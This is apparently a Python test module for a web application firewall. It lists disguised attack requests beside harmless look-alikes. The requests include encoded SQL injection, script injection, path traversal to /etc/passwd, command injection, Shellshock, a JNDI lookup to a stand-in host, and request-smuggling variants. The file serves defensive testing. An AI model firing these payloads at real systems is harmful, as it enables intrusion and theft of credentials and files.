"""Attacks in disguise in the request itself: encodings, tricks of languages, parameters, chunks, paths and fields."""

from __future__ import annotations

from urllib.parse import quote

from tests.waf.disguise import (
    BROWSER,
    FINE_FORM,
    FORM,
    PASSWD,
    PLAIN_FORM,
    PLAIN_QUERY,
    SCRIPT,
    SQL,
    Evasion,
    chunked,
    every,
    get,
    post,
    query,
    request,
)

ENCODINGS = [
    Evasion("encoded twice", query("", quote(quote(SQL))), PLAIN_QUERY, query("", quote(quote("50% off")))),
    Evasion("every byte encoded", query("", every(SQL, "%%%02x")), PLAIN_QUERY, query("", every("dinner", "%%%02x"))),
    Evasion("%u of IIS", query("", every(SQL, "%%u%04x")), PLAIN_QUERY, query("", quote("für zwei"))),
    Evasion(
        "wide characters", query("", quote(SCRIPT.replace("<", "\uff1c").replace(">", "\uff1e"))), query(SCRIPT), query("番茄")
    ),
    Evasion("wide characters by %u", query("", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"), query(SCRIPT), query("\uff21")),
    Evasion("overlong slashes", query("", "..%c0%af..%c0%af..%c0%afetc/passwd"), query(PASSWD), query("", "%c3%a4")),
    Evasion("overlong dots", query("", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), query(PASSWD), query("a.b/c")),
    Evasion("slashes encoded twice", query("", "..%252f..%252f..%252fetc%252fpasswd"), query(PASSWD), query("a/b")),
    Evasion("entities", query("&lt;script&gt;alert(1)&lt;/script&gt;"), query(SCRIPT), query("salt &amp; pepper")),
    Evasion("entities by number", query("&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;"), query(SCRIPT), query("&#233;t&#233;")),
    Evasion("NUL in a word", query("", "%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E"), query(SCRIPT), query("script writer")),
    Evasion("escapes of scripts", query("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"), query(SCRIPT), query("C:\\temp")),
    Evasion("base64 in a data URL", query("data:text/html;base64,PHNjcmlwdD4="), query(SCRIPT), query("data sheet")),
]

TRICKS = [
    Evasion("case", query("1' uNiOn SeLeCt password FrOm users-- "), PLAIN_QUERY, query("UnIoN dinner")),
    Evasion(
        "comments between", query("1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--+"), PLAIN_QUERY, query("a /* b */ c")
    ),
    Evasion("MySQL's versions", query("1'/*!50000UNION*//*!50000SELECT*/ password FROM users#"), PLAIN_QUERY, query("5 * 4 / 2")),
    Evasion("line ends between", query("1'\nUNION\nSELECT\npassword\nFROM\nusers--\n"), PLAIN_QUERY, query("one\ntwo")),
    Evasion("other blanks", query("1'\x0bUNION\x0bSELECT\x0b1\x0bFROM\x0busers-- "), PLAIN_QUERY, query("a\tb")),
    Evasion(
        "no-break blanks",
        query("1'\u00a0UNION\u00a0SELECT\u00a0password\u00a0FROM\u00a0users-- "),
        PLAIN_QUERY,
        query("10\u00a0€"),
    ),
    Evasion("no blanks", query("1'UNION(SELECT(password)FROM(users))-- "), PLAIN_QUERY, query("f(x)")),
    Evasion("hex instead of text", query("1' OR 0x61=0x61-- "), query("1' OR 'a'='a'-- "), query("0x61")),
    Evasion("a tautology of words", query("1' || 'a'||'b' LIKE 'a%"), query("1' OR 'a'='a'-- "), query("a || b")),
    Evasion("quotes in a command", query(";c'a't /e't'c/pa's'swd"), query(";cat /etc/passwd"), query("it's")),
    Evasion("variables in a command", query(";cat${IFS}/etc/passwd"), query(";cat /etc/passwd"), query("$5 off")),
    Evasion("backslashes in a command", query(";c\\at /etc/pas\\swd"), query(";cat /etc/passwd"), query("a\\b")),
    Evasion("a handler without blanks", query("<svg/onload=alert(1)>"), query(SCRIPT), query("a < b > c")),
    Evasion("a scheme with tabs", query("<a href='java\tscript:alert(1)'>"), query(SCRIPT), query("javascript course")),
    Evasion("names in names", query("${${lower:j}ndi:ldap://e.example/a}"), query("${jndi:ldap://e.example/a}"), query("{name}")),
]

PARAMETERS = [
    Evasion("in the second of a name", get(f"/?q=1&q={quote(SQL)}"), PLAIN_QUERY, get("/?q=1&q=2")),
    Evasion(
        "in the last of many",
        get("/?" + "&".join(f"a{n}=1" for n in range(300)) + f"&q={quote(SQL)}"),
        PLAIN_QUERY,
        get("/?" + "&".join(f"a{n}=1" for n in range(300))),
    ),
    Evasion(
        "more than are looked at",
        post("&".join(f"a{n}=1" for n in range(1500)) + f"&q={quote(SQL)}"),
        PLAIN_FORM,
        post("&".join(f"a{n}=1" for n in range(900))),
    ),
    Evasion("in a name", get(f"/?{quote(SQL)}=1"), PLAIN_QUERY, get("/?union[dinner]=1")),
    Evasion("a name without a value", get(f"/?{quote(SQL)}"), PLAIN_QUERY, get("/?dinner")),
    Evasion(
        "in both query and form",
        request("POST", "/form?q=1", f"q={quote(SQL)}".encode(), media=FORM),
        PLAIN_FORM,
        request("POST", "/form?q=1", b"q=2", media=FORM),
    ),
    Evasion(
        "in the query of a form",
        request("POST", f"/form?q={quote(SQL)}", b"q=1", media=FORM),
        PLAIN_FORM,
        request("POST", "/form?q=1", b"q=2", media=FORM),
    ),
    Evasion("an array", get(f"/?q[]=1&q[]={quote(SQL)}"), PLAIN_QUERY, get("/?q[]=1&q[]=2")),
    Evasion(
        "a body of GET",
        request("GET", "/search", f"q={quote(SQL)}".encode(), media=FORM),
        PLAIN_FORM,
        request("GET", "/search", b"", media=None),
    ),
]

CHUNKS = [
    Evasion("a chunk a byte", chunked([bytes([b]) for b in f"q={quote(SQL)}".encode()]), PLAIN_FORM, chunked([b"q=", b"2"])),
    Evasion(
        "chunks with extensions",
        chunked([b"q=", quote(SQL).encode()], extension=b";a=b"),
        PLAIN_FORM,
        chunked([b"q=2"], extension=b";a=b"),
    ),
    Evasion(
        "chunked twice",
        request("POST", "/form", b"1\r\nq\r\n0\r\n\r\n", "Transfer-Encoding: chunked, chunked", media=FORM, length=False),
        PLAIN_FORM,
        chunked([b"q=2"]),
    ),
    Evasion(
        "chunked and a length",
        request("POST", "/form", b"0\r\n\r\nq=1", "Transfer-Encoding: chunked", media=FORM),
        PLAIN_FORM,
        chunked([b"q=2"]),
    ),
    Evasion(
        "chunked by another name",
        request("POST", "/form", b"0\r\n\r\n", "Transfer-Encoding: xchunked", media=FORM, length=False),
        PLAIN_FORM,
        chunked([b"q=2"]),
    ),
    Evasion(
        "a length twice",
        request("POST", "/form", b"q=1", "Content-Length: 3", "Content-Length: 4", media=FORM),
        PLAIN_FORM,
        FINE_FORM,
    ),
    Evasion(
        "a size that overflows",
        request("POST", "/form", b"fffffffffffffffff\r\nq\r\n0\r\n\r\n", "Transfer-Encoding: chunked", media=FORM, length=False),
        PLAIN_FORM,
        chunked([b"q=2"]),
    ),
    Evasion("after a long field", post("a=" + "x" * 900_000 + f"&q={quote(SQL)}"), PLAIN_FORM, post("a=" + "x" * 900_000)),
    Evasion(
        "beyond what is looked at", post("a=" + "x" * 1_100_000 + f"&q={quote(SQL)}"), PLAIN_FORM, post("a=" + "x" * 900_000)
    ),
]

PATHS = [
    Evasion("dots encoded", get("/a/%2e%2e/%2e%2e/etc/passwd"), get("/?f=" + quote(PASSWD)), get("/a/%7euser")),
    Evasion("slashes encoded", get("/a/..%2f..%2fetc%2fpasswd"), get("/?f=" + quote(PASSWD)), get("/a/b")),
    Evasion("encoded twice", get("/a/%252e%252e/%252e%252e/etc/passwd"), get("/?f=" + quote(PASSWD)), get("/a/100%25")),
    Evasion("..;/", get("/a/..;/..;/etc/passwd"), get("/?f=" + quote(PASSWD)), get("/a;v=1/b")),
    Evasion("backslashes", get("/a/..\\..\\etc\\passwd"), get("/?f=" + quote(PASSWD)), get("/a/b")),
    Evasion("backslashes encoded", get("/a/..%5c..%5cetc%5cpasswd"), get("/?f=" + quote(PASSWD)), get("/a/b")),
    Evasion("slashes doubled", get("/?f=..//..//etc//passwd"), get("/?f=" + quote(PASSWD)), get("//a//b")),
    Evasion("above the root", get("/../../../etc/passwd"), get("/?f=" + quote(PASSWD)), get("/a/./b")),
    Evasion("an overlong slash", get("/a/..%c0%af..%c0%afetc/passwd"), get("/?f=" + quote(PASSWD)), get("/a/%c3%a4")),
    Evasion("NUL at the end", get("/a.php%00.jpg"), get("/?f=a%00"), get("/a.php.jpg")),
    Evasion("a hidden file", get("/.%67it/config"), get("/.git/config"), get("/git/configuration")),
    Evasion("a copy of a file", get("/shop/.env%20"), get("/.env"), get("/environment")),
    Evasion(
        "an absolute target",
        get("http://shop.example/?f=" + quote(PASSWD)),
        get("/?f=" + quote(PASSWD)),
        get("http://shop.example/?f=a"),
    ),
]

FIELDS = [
    Evasion("a cookie", get("/", f"Cookie: a=1; q={SQL.strip()}"), PLAIN_QUERY, get("/", "Cookie: a=1; q=union")),
    Evasion("a cookie, encoded", get("/", f"Cookie: q={quote(SQL)}"), PLAIN_QUERY, get("/", "Cookie: q=a%20b")),
    Evasion("a cookie's name", get("/", "Cookie: <script>alert(1)</script>=1"), query(SCRIPT), get("/", "Cookie: script=1")),
    Evasion(
        "two Cookie fields",
        get("/", "Cookie: a=1", f"Cookie: q={quote(SQL)}"),
        PLAIN_QUERY,
        get("/", "Cookie: a=1", "Cookie: b=2"),
    ),
    Evasion(
        "User-Agent",
        get("/", "User-Agent: () { :;}; /bin/cat /etc/passwd"),
        query(";cat /etc/passwd"),
        get("/", "User-Agent: Mozilla/5.0 (compatible; a; b)"),
    ),
    Evasion("User-Agent, markup", get("/", f"User-Agent: {SCRIPT}"), query(SCRIPT), get("/", "User-Agent: Mozilla/5.0 (x > 1)")),
    Evasion("X-Forwarded-For", get("/", f"X-Forwarded-For: {PASSWD}"), query(PASSWD), get("/", "X-Forwarded-For: 192.0.2.1")),
    Evasion("a field of its own", get("/", f"X-Version: {PASSWD}"), query(PASSWD), get("/", "X-Version: 2")),
    Evasion("a field that hides another", get("/", "Content-Encoding : gzip"), PLAIN_QUERY, get("/", "Content-Language: en")),
    Evasion("a folded field", get("/", "X-A: b\r\n c"), PLAIN_QUERY, get("/", "X-A: b c")),
    Evasion("two Hosts", get("/", "Host: shop.example", "Host: other.example"), PLAIN_QUERY, get("/")),
]

PARANOID = [
    Evasion("Referer, markup", get("/", f"Referer: {SCRIPT}"), query(SCRIPT), get("/", "Referer: https://e.example/?q=a")),
    Evasion(
        "Referer, SQL", get("/", f"Referer: https://e.example/?q={SQL}"), PLAIN_QUERY, get("/", "Referer: https://e.example/")
    ),
    Evasion("User-Agent, SQL", get("/", f"User-Agent: {BROWSER} {SQL}"), PLAIN_QUERY, get("/")),
    Evasion("a file below the root", get("/etc/passwd/../passwd"), query(PASSWD), get("/etc")),
]
"""What the core rules look at from paranoia 2 on."""
